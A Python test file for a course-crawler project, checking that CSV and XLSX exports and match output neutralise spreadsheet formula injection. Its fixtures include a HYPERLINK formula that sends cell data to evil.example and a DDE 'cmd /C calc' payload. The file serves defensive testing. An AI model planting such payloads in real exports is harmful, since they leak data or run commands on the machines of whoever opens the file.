"""Nothing unsafe leaves the exports: crawled text that a spreadsheet would run as a formula is
written as text in every CSV and XLSX the project writes, and `scrapy match` output too.
Each export is the real command on a real database."""

import csv
import io
import sqlite3
import zipfile

import pytest
from openpyxl import load_workbook

from crawler.operations.safe_cells import FORMULA_START, safe_csv_cell
from support.scrapy_run import run_scrapy
from test_review_fixtures import build_review_db

# What a crawled page can carry: the extractor keeps a leading "=".
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS_FEES = "+44 20 7946 0000 x=1"
MINUS_LENGTH = "-2+3 years"
KCL_PGCERT, KCL_IMPL = 2, 4


@pytest.fixture
def hostile_db(tmp_path):
    path = tmp_path / "courses.db"
    build_review_db(path).conn.close()
    with sqlite3.connect(path) as conn:
        conn.execute("UPDATE candidates SET title = ?, fees = ? WHERE id = ?", [HYPERLINK, PLUS_FEES, KCL_PGCERT])
        conn.execute("UPDATE candidates SET title = ?, duration = ? WHERE id = ?", [AT_FORMULA, MINUS_LENGTH, KCL_IMPL])
        conn.execute("""INSERT INTO catalogue (id, title, provider, category, source_table, origin)
                        VALUES ('acc-99', ?, '=1+2', 'core', 'table 3', 'accepted')""", [HYPERLINK])
    conn.close()
    return path


def csv_cells(path):
    with open(path, encoding="utf-8-sig", newline="") as stream:
        return [cell for row in csv.reader(stream) for cell in row]


def assert_no_formula_cells(cells, where):
    live = [cell for cell in cells if cell.startswith(FORMULA_START)]
    assert not live, f"{where}: cells a spreadsheet would run: {live[:5]}"


@pytest.mark.parametrize("text, written", [
    (HYPERLINK, "'" + HYPERLINK), ("@x", "'@x"), ("+1", "'+1"), ("-1", "'-1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("MSc Improvement Science", "MSc Improvement Science"), ("£9,000", "£9,000"), ("a=b", "a=b"), ("", ""),
    (12.5, 12.5), (None, None),
])
def test_a_csv_cell_that_would_run_gets_an_apostrophe(text, written):
    assert safe_csv_cell(text) == written


def test_export_verification_writes_crawled_formulas_as_text(hostile_db, tmp_path):
    out = tmp_path / "out"
    result = run_scrapy("export", "verification", "--provider", "kcl", "--db", str(hostile_db), "--output", str(out))
    assert result.returncode == 0, result.stderr[-2000:]
    xlsx, sheet_csv = out / "verification-kcl.xlsx", out / "verification-kcl.csv"
    with zipfile.ZipFile(xlsx) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    cells = [cell for row in load_workbook(xlsx).active.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type == "s" for cell in cells if isinstance(cell.value, str))
    # Shown exactly as the page wrote it, as text.
    values = {cell.value for cell in cells}
    assert {HYPERLINK, AT_FORMULA, PLUS_FEES} <= values
    cells = csv_cells(sheet_csv)
    assert_no_formula_cells(cells, sheet_csv.name)
    assert "'" + HYPERLINK in cells and "'" + AT_FORMULA in cells


def test_export_report_and_site_write_no_live_formula(hostile_db, tmp_path):
    report = run_scrapy("export", "report", "--db", str(hostile_db), "--output", str(tmp_path / "report"))
    assert report.returncode == 0, report.stderr[-2000:]
    cells = csv_cells(tmp_path / "report" / "report.csv")
    assert_no_formula_cells(cells, "report.csv")
    assert "'=1+2" in cells
    site = run_scrapy("export", "site", str(tmp_path / "site"), "--db", str(hostile_db))
    assert site.returncode == 0, site.stderr[-2000:]
    assert_no_formula_cells(csv_cells(tmp_path / "site" / "catalogue.csv"), "catalogue.csv")


def test_match_output_writes_formulas_as_text(tmp_path):
    source = tmp_path / "list.csv"
    source.write_text(f'title,provider,notes\n"{HYPERLINK.replace(chr(34), chr(34) * 2)}",UCL,=1+1\n'
                      "MSc Improvement Science,UWL,-\n", encoding="utf-8")
    result = run_scrapy("match", str(source), "--catalogue", "data/catalogue.csv")
    assert result.returncode == 0, result.stderr[-2000:]
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert_no_formula_cells([cell for row in rows for cell in row], "match output")
    assert rows[1][:3] == ["'" + HYPERLINK, "UCL", "'=1+1"]
